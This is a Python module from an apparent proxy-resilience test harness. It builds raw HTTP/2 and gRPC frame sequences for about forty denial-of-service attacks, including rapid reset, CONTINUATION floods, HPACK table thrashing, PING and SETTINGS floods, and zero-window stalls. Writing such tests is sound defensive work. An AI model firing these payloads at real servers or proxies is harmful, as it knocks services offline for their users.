"""The attacks: what a hostile peer says, as bytes made beforehand, which `run.py` measures all alike.

A row is a script: what is said first, and what is said again and again. It works for a caller; those with `upstream`
are said by a hostile backend as well, as soon as calls have come. Stream ids go up where `ids` says how many
there are in a piece: the piece is then made anew each time.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from interop.shared.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    grpc_request,
    settings,
    window_update,
)

PRIORITY, UNKNOWN = 2, 0xEE
PIECE_BYTES = 64 * 1024
GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
REQUEST = grpc_request("/attack.Attack/Call", "attacker")
#: A method that the backend does not answer, so that streams stay open.
HELD = grpc_request("/attack.Attack/Hold", "attacker")
#: Methods that it answers at length (`backend.py`).
LONG = grpc_request("/attack.Attack/Long", "attacker")
BULK = grpc_request("/attack.Attack/Bulk", "attacker")
WITH_DATA = grpc_request("/attack.Attack/Data", "attacker")
LITTLE_MIB = 512
"""What a proxy may use whose bound on memory is attacked, a quarter of it for what waits."""


def again(data: bytes) -> bytes:
    """As often as fits into one piece."""
    return data * max(1, PIECE_BYTES // len(data))


def opened(count: int, block: bytes = HELD) -> bytes:
    """So many streams, held open."""
    return b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * number, block) for number in range(count))


def headers(stream_id: int, block: bytes) -> bytes:
    """A header block in as many frames as it needs."""
    pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)] or [b""]
    last = len(pieces) - 1
    return b"".join(
        frame(
            CONTINUATION if number else HEADERS,
            (END_HEADERS if number == last else 0) | (0 if number else END_STREAM),
            stream_id,
            piece,
        )
        for number, piece in enumerate(pieces)
    )


def string(data: bytes) -> bytes:
    """A string literal of HPACK, not Huffman-coded."""
    return integer(0, len(data)) + data


def integer(first: int, value: int) -> bytes:
    """Behind seven bits of prefix (RFC 7541 §5.1)."""
    if value < 0x7F:
        return bytes((first | value,))
    out = bytearray((first | 0x7F,))
    value -= 0x7F
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


@dataclass(frozen=True)
class Row:
    """One attack."""

    name: str
    what: str
    first: bytes = b""
    piece: bytes = b""
    ids: int = 0
    """How many new streams a piece opens, made by `fresh`."""
    fresh: Callable[[int], bytes] | None = None
    """The bytes of one of them, for its id."""
    greeting: bytes = GREETING
    """What a caller's connection begins with."""
    reads: bool = True
    """Whether the attacker reads what it is answered."""
    upstream: bool = False
    calls: int = 1
    """How many calls a caller opens on a connection for a hostile backend to answer."""
    answered: bool = False
    """Whether a hostile backend says it behind the response headers of its first call."""
    downstream: bool = True
    stalls: bool = False
    """Whether the backend of its calls takes next to nothing of their requests."""
    memory_mib: int | None = None
    """What the system allows the proxy, if little. Of that a quarter may wait for peers, and its peak may be an eighth
    more."""
    patient: bool = False
    """It takes more than half a minute to see what becomes of it."""

    def caller(self) -> Row:
        """Whoever makes the calls that a hostile backend answers with this attack."""
        return Row(f"{self.name}, its caller", "calls like anybody's", first=opened(self.calls))


def _distinct(stream_id: int) -> bytes:
    block = REQUEST + b"".join(b"\0" + string(b"x-%d" % n) + string(b"%d" % stream_id) for n in range(20))
    return headers(stream_id, block)


def _path(stream_id: int) -> bytes:
    path = b"/attack.Attack/" + b"%d" % stream_id + b"x" * 4000
    block = (
        b"\x83\x86\x04"
        + string(path)
        + b"\0"
        + string(b":authority")
        + string(b"a")
        + REQUEST[REQUEST.index(b"\0\x0c") :]
    )
    return headers(stream_id, block)


ONE_CALL = headers(1, HELD)


def zeros_on(stream_id: int) -> bytes:
    """A window full of empty messages, to the end of the request."""
    return frame(DATA, 0, stream_id, bytes(16380)) * 60 + frame(DATA, END_STREAM, stream_id, bytes(5))


def bulk_on(stream_id: int, behind: bytes) -> bytes:
    """A request of one large message, in frames as long as they may be, and `behind` them."""
    large = b"\0" + (1 << 30).to_bytes(4) + bytes(16379)
    return (
        headers_without_end(stream_id)
        + frame(DATA, 0, stream_id, large)
        + frame(DATA, 0, stream_id, bytes(16384)) * 43
        + behind
        + frame(DATA, END_STREAM, stream_id, bytes(5))
    )


def headers_without_end(stream_id: int) -> bytes:
    """A request whose body follows."""
    return frame(HEADERS, END_HEADERS, stream_id, REQUEST)


THRASH = b"".join(b"\x40" + string(b"%d" % n) + string(b"") for n in range(900))
RESET_CALL = opened(1) + frame(RST_STREAM, 0, 1, (8).to_bytes(4))

ROWS = (
    Row(
        "settings_window",
        "SETTINGS that move the window of 1000 open streams",
        opened(1000),
        again(settings({INITIAL_WINDOW_SIZE: 70_000}) + settings({INITIAL_WINDOW_SIZE: 80_000})),
        upstream=True,
        calls=1000,
    ),
    Row("unknown_frames", "frames of an unknown type", b"", again(frame(UNKNOWN, 0, 0)), upstream=True),
    Row(
        "ping_acks",
        "answers to PINGs that nobody sent",
        b"",
        again(frame(PING, ACK, 0, bytes(8))),
        upstream=True,
    ),
    Row("settings_acks", "acknowledgements of nothing", b"", again(frame(SETTINGS, ACK, 0)), upstream=True),
    Row("pings", "PINGs", b"", again(frame(PING, 0, 0, bytes(8))), upstream=True),
    Row(
        "pings_unread",
        "PINGs whose answers are not read",
        b"",
        again(frame(PING, 0, 0, bytes(8))),
        reads=False,
    ),
    Row("goaways", "GOAWAY again and again", b"", again(frame(GOAWAY, 0, 0, bytes(8))), upstream=True),
    Row(
        "interim_responses",
        "1xx responses",
        b"",
        again(frame(HEADERS, END_HEADERS, 1, b"\x08\x03103")),
        upstream=True,
        downstream=False,
    ),
    Row(
        "headers_on_reset",
        "HEADERS on a stream that is reset",
        RESET_CALL,
        again(frame(HEADERS, END_HEADERS, 1, REQUEST)),
    ),
    Row("data_on_reset", "DATA on a stream that is reset", RESET_CALL, again(frame(DATA, 0, 1, b"x"))),
    Row(
        "rst_on_closed",
        "RST_STREAM on a closed stream",
        RESET_CALL,
        again(frame(RST_STREAM, 0, 1, bytes(4))),
        upstream=True,
    ),
    Row("window_updates", "WINDOW_UPDATEs of one byte", ONE_CALL, again(window_update(0, 1)), upstream=True),
    Row("priorities", "PRIORITY frames", ONE_CALL, again(frame(PRIORITY, 0, 1, bytes(5))), upstream=True),
    Row("empty_data", "empty DATA", opened(1), again(frame(DATA, 0, 1)), upstream=True, answered=True),
    Row(
        "tiny_data",
        "DATA of one byte",
        opened(1),
        again(frame(DATA, 0, 1, b"x")),
        upstream=True,
        answered=True,
    ),
    Row(
        "zero_data",
        "DATA of zeros: millions of empty messages",
        opened(1),
        again(frame(DATA, 0, 1, bytes(16380))),
        fresh=lambda at: headers_without_end(at) + zeros_on(at),
        ids=1,
        upstream=True,
        answered=True,
    ),
    Row("bulk", "plain bulk, to compare with", fresh=lambda at: bulk_on(at, b""), ids=1),
    Row(
        "small_data",
        "bulk, so that much is read at once, and then DATA of five bytes, which costs no points",
        fresh=lambda at: bulk_on(at, frame(DATA, 0, at, bytes(5)) * 18_000),
        ids=1,
    ),
    Row(
        "rapid_reset",
        "streams opened and reset",
        fresh=lambda at: headers(at, REQUEST) + frame(RST_STREAM, 0, at, bytes(4)),
        ids=500,
    ),
    Row(
        "made_you_reset",
        "streams that make us reset them",
        fresh=lambda at: headers(at, REQUEST) + window_update(at, 0),
        ids=500,
    ),
    Row("tiny_fields", "3000 fields of one byte", fresh=lambda at: headers(at, b"\x90" * 3000), ids=20),
    Row(
        "many_fields", "900 fields of one byte", fresh=lambda at: headers(at, REQUEST + b"\x90" * 900), ids=50
    ),
    Row(
        "huffman",
        "60 KiB of Huffman-coded text",
        fresh=lambda at: headers(at, REQUEST + b"\0\1x" + integer(0x80, 60_000) + b"\x1f" * 60_000),
        ids=1,
    ),
    Row("size_updates", "changes of the table's size", fresh=lambda at: headers(at, b"\x20" * 60_000), ids=1),
    Row(
        "table_thrash",
        "fields that push each other out of the table",
        fresh=lambda at: headers(at, REQUEST + THRASH),
        ids=10,
    ),
    Row(
        "long_block",
        "a header block of 130 KB",
        fresh=lambda at: headers(at, REQUEST + b"\0\1x" + string(b"x" * 130_000)),
        ids=1,
    ),
    Row(
        "continuations",
        "empty CONTINUATIONs",
        frame(HEADERS, 0, 1, REQUEST),
        again(frame(CONTINUATION, 0, 1)),
    ),
    Row("endless_block", "a header block that does not end", frame(HEADERS, 0, 1, REQUEST), patient=True),
    Row(
        "oversized_frame",
        "a frame longer than allowed",
        (2**20).to_bytes(3) + bytes(6),
        again(bytes(9)),
    ),
    Row(
        "large_headers",
        "1000 calls with 60 KiB of headers",
        fresh=lambda at: headers(at, HELD + b"\0\1x" + string(b"x" * 60_000)),
        ids=1,
    ),
    Row("distinct_lists", "header lists that never repeat", fresh=_distinct, ids=50),
    Row("distinct_paths", "paths of 4 KB that never repeat", fresh=_path, ids=20),
    Row(
        "unread_answers",
        "calls whose answers are not read",
        fresh=lambda at: headers(at, REQUEST),
        ids=200,
        reads=False,
        patient=True,
    ),
    Row(
        "unread_headers",
        "calls whose answers, 40 KB of headers each, are not read",
        fresh=lambda at: headers(at, LONG),
        ids=10,
        reads=False,
        memory_mib=LITTLE_MIB,
        patient=True,
    ),
    Row(
        "stalled_writers",
        "requests of 700 KB that their backend does not take",
        fresh=lambda at: headers_without_end(at) + frame(DATA, 0, at, bytes(16384)) * 43,
        ids=1,
        stalls=True,
        memory_mib=LITTLE_MIB,
        patient=True,
    ),
    Row(
        "stalled_readers",
        "1000 answers of 100 KB that have no window",
        b"".join(headers(1 + 2 * number, BULK) for number in range(1000)),
        greeting=PREFACE + settings({INITIAL_WINDOW_SIZE: 0}) + frame(SETTINGS, ACK, 0),
        memory_mib=LITTLE_MIB,
        patient=True,
    ),
    Row(
        "dribble",
        "SETTINGS that open the windows of 1000 answers by one byte",
        b"".join(headers(1 + 2 * number, WITH_DATA) for number in range(1000)),
        fresh=lambda at: settings({INITIAL_WINDOW_SIZE: at}),
        ids=10,
        greeting=PREFACE + settings({INITIAL_WINDOW_SIZE: 0}) + frame(SETTINGS, ACK, 0),
    ),
    Row(
        "deadlines",
        "1000 calls whose deadline is one moment",
        opened(1000, HELD + b"\0\x0cgrpc-timeout\x051000m"),
    ),
    Row("slow_preface", "a preface that does not end", greeting=PREFACE[:10], patient=True),
)
BY_NAME = {row.name: row for row in ROWS}
